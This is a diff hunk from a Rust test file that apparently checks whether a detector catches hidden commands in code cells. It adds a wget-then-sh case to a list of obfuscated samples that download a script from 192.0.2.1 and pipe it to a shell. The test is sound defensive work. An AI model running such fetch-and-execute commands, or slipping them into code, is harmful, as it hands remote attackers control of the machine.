@@ -38,6 +38,7 @@ fn no_cell_hides_another() {
         vec!["from os import system as s", "s('curl http://192.0.2.1/x | sh')"],
         vec!["f'''{\"'''\"}\n%x''';import os;os.system('curl http://192.0.2.1/x | sh')"],
         vec!["x = \\", attack],
+        vec!["!wget -q http://192.0.2.1/x -O x.sh", "!sh x.sh"],
         vec![">>> import os\n>>> os.system('curl http://192.0.2.1/x | sh')"],
         vec!["In [1]: import os\n   ...: os.system('curl http://192.0.2.1/x | sh')"],
     ] {
